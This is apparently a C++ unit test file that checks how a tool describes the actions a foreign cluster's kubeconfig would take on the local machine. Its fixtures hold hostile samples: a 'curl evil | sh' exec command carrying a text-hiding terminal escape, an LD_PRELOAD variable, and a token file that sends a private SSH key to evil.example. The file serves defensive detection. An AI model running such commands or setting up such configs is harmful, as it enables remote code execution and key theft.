// The full description of what a kubeconfig of another cluster would do on this machine.
#include <doctest/doctest.h>

#include "model/peer/remote_trust.hpp"

namespace {

using kube::wire::ClusterConfig;
using liqoctl::model::deeds_of;

TEST_CASE("certificates, keys and tokens do nothing") {
  ClusterConfig config;
  config.client_certificate_file = "/a";
  config.client_key_file = "/b";
  config.token = "t";
  CHECK(deeds_of(config) == "");
}

TEST_CASE("a program is shown with its arguments and the names of its variables") {
  ClusterConfig config;
  config.exec.emplace();
  config.exec->command = "sh";
  config.exec->args = {"-c", "curl evil | sh\n\x1b[8m"};
  config.exec->env = {{"LD_PRELOAD", "secret"}};
  CHECK(deeds_of(config) == "runs on this machine: sh -c 'curl evil | sh ?[8m' (with the variables LD_PRELOAD)");
}

TEST_CASE("a file whose content is sent as a token is named, with where it goes") {
  ClusterConfig config;
  config.token_file = "/home/me/.ssh/id_ed25519";
  config.server.host = "evil.example";
  CHECK(deeds_of(config) == "sends the content of the file /home/me/.ssh/id_ed25519 to evil.example");
}

}  // namespace
